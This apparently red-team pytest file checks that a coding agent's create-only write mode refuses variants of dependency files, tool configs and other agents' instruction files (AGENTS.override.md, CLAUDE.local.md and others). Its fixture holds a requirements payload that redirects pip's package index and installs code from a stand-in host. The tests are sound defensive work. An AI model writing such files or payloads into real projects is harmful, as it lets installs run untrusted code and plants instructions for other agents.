"""Create-only mode does not create the other names of the files it refuses (varsurf15b).

redwrite15 refused requirements.txt, constraints.txt, package.json, CMakeLists.txt and
AGENTS.md, but their twins of an allowed kind were created: pip's requirement files under
their conventional names (requirements-dev.txt, dev-requirements.txt, requirements/base.txt:
``pip install -r`` obeys their --index-url and -e lines, and installing a package runs its
build code), npm's lockfiles (npm ci installs the tarballs their "resolved" URLs name), the
files other tools take commands from (Nx's project.json, vercel.json, firebase.json,
app.json, CMake's presets), and the instruction files of other coding agents (Codex's
AGENTS.override.md, Amp's AGENT.md, CLAUDE.local.md, QWEN.md, CRUSH.md, WARP.md)."""

from __future__ import annotations

from pathlib import Path

import pytest
from test_redteam_create_only import BY_NAME, FACTORIES

from rho_adapters.fakes.memory_executor import MemoryExecutor
from rho_domain.errors import PermissionDenied

TWINS = [
    "requirements-dev.txt",
    "dev-requirements.txt",
    "requirements_test.txt",
    "Requirements-Docs.TXT",
    "requirements/base.txt",
    "constraints-ci.txt",
    "package-lock.json",
    "web/npm-shrinkwrap.json",
    "apps/api/project.json",
    "vercel.json",
    "firebase.json",
    "app.json",
    "CMakePresets.json",
    "CMakeUserPresets.json",
    "AGENTS.override.md",
    "AGENT.md",
    "CLAUDE.local.md",
    "QWEN.md",
    "CRUSH.md",
    "WARP.md",
]
REQUIREMENTS = b"--index-url http://127.0.0.1:9/simple\n-e git+https://example.invalid/x#egg=x\n"


@pytest.mark.parametrize("kind", sorted(FACTORIES))
@pytest.mark.parametrize("path", TWINS)
async def test_create_only_refuses_the_twins_of_what_it_refuses(
    tmp_path: Path, kind: str, path: str
) -> None:
    executor = FACTORIES[kind](tmp_path)
    try:
        # (a tool's local configuration is never written in any mode since redmcp21)
        with pytest.raises(PermissionDenied, match=f"{BY_NAME}|agents never write"):
            await executor.write(path, REQUIREMENTS, overwrite=False)
        if isinstance(executor, MemoryExecutor):
            assert not executor.files
    finally:
        await executor.aclose()
    assert not (tmp_path / path).exists()


@pytest.mark.parametrize("kind", sorted(FACTORIES))
async def test_documents_about_requirements_are_still_created(tmp_path: Path, kind: str) -> None:
    executor = FACTORIES[kind](tmp_path)
    try:
        for path in ("requirements-analysis.md", "requirements/spec.md", "agents.csv"):
            assert await executor.write(path, b"ok\n", overwrite=False) is False
    finally:
        await executor.aclose()
